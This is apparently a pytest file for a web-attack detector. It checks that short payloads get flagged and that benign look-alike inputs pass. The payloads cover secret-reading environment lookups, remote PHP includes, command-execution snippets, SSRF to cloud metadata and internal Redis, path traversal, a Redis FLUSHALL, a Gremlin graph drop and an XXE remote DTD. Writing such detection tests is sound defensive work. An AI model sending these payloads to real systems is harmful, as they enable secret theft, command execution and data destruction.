"""Techniques that are short in any language: look-ups, calls, formats, inner addresses, files by name."""

from __future__ import annotations

import pytest
from tests.attacks.asking import weight

from doorward.attacks.evidence import Place

ATTACKS = {
    "look-up alone": ("java", "${env:AWS_SECRET_KEY}", "q"),
    "class loader": ("java", "this.getClass().getClassLoader()", "q"),
    "other runtime": ("node", "Deno.run({cmd: ['id']})", "q"),
    "include from elsewhere": ("php", "include('http://files.example/x');", "q"),
    "backticks": ("php", "<?=`id`?>", "q"),
    "callback": ("php", "usort($a, 'system')", "q"),
    "compile": ("code", "compile('1','','exec')", "q"),
    "pipe": ("code", '"|id".open', "q"),
    ".NET": ("code", 'System.IO.File.ReadAllText("c:\\\\x")', "q"),
    "Erlang": ("code", ":os.cmd('id')", "q"),
    "pickle of protocol 3": ("code", "gAN9cQBYBAAAAHVzZXJxAVgFAAAA", "q"),
    "Marshal": ("code", "BAhvOkBBY3RpdmVTdXBwb3J0OjpE", "q"),
    "Go template alone": ("template", '{{printf "%s" .}}', "q"),
    "secret of Django": ("template", "{{ messages.storages.0.signer.key }}", "q"),
    "environment": ("template", "<%= ENV %>", "q"),
    "store": ("ssrf", "http://127.0.0.1:6379/", "callback"),
    "store in a container network": ("ssrf", "http://redis:6379/", "url"),
    "hexadecimal host": ("ssrf", "http://7F000001/", "url"),
    "many words in a URL": ("ssrf", "http://metadata.tencentyun.com/latest/meta-data/", "webhook"),
    "settings by name": ("paths", ".env", "template"),
    "source above": ("paths", "../config.php", "page"),
    "device": ("paths", "\\\\.\\PhysicalDrive0", "q"),
    "stream": ("paths", "web.config::$DATA", "q"),
    "Redis protocol": ("nosql", "*1\\r\\n$8\\r\\nFLUSHALL\\r\\n", "q"),
    "Gremlin": ("nosql", "g.V().drop()", "q"),
    "remote definition": ("xxe", '<!DOCTYPE a PUBLIC "b" "http://files.example/x.dtd"><a/>', "q"),
}
ORDINARY = {
    "sentence about a function": ("php", "eval() is evil, isn't it?", "text"),
    "password": ("ldap", ")(&|x*Y8", "password"),
    "filter of an interface": ("ldap", "(&(objectClass=user)(department=IT))", "$filter"),
    "filter of a list": ("nosql", '{"filter":{"status":{"$in":["open","closed"]}}}', "filter"),
    "search for a file": ("paths", "/etc/hosts mac", "q"),
    "document of a person": ("ssrf", "file:///C:/Users/anna/report.html", "next"),
    "database of a developer": ("ssrf", "postgres://localhost/db", "url"),
    "picture of a network": ("ssrf", "http://10.0.0.5/logo.png", "image"),
    "settings in a search": ("paths", ".env", "q"),
    "fallback picture": ("html", '<img src="a.png" onerror="this.src=\'b.png\'">', "body"),
    "page that goes home": ("html", '<meta http-equiv="refresh" content="5; url=/home">', "text"),
    "tag manager": ("html", '<p>Hi</p><script src="https://www.googletagmanager.com/gtag/js"></script>', "html"),
    "drawing": ("script", 'data:image/svg+xml;utf8,<svg width="1" height="1"/>', "url"),
    "report of a policy": ("script", "alert(1)", "csp-report.script-sample"),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_techniques_are_conclusive(name: str) -> None:
    """Each as a whole value."""
    book, text, parameter = ATTACKS[name]
    assert weight(book, text, Place.FORM, parameter) >= 1


@pytest.mark.parametrize("name", ORDINARY)
def test_look_alikes_pass(name: str) -> None:
    """What people and programs send in such fields."""
    book, text, parameter = ORDINARY[name]
    assert weight(book, text, Place.FORM, parameter) < 1
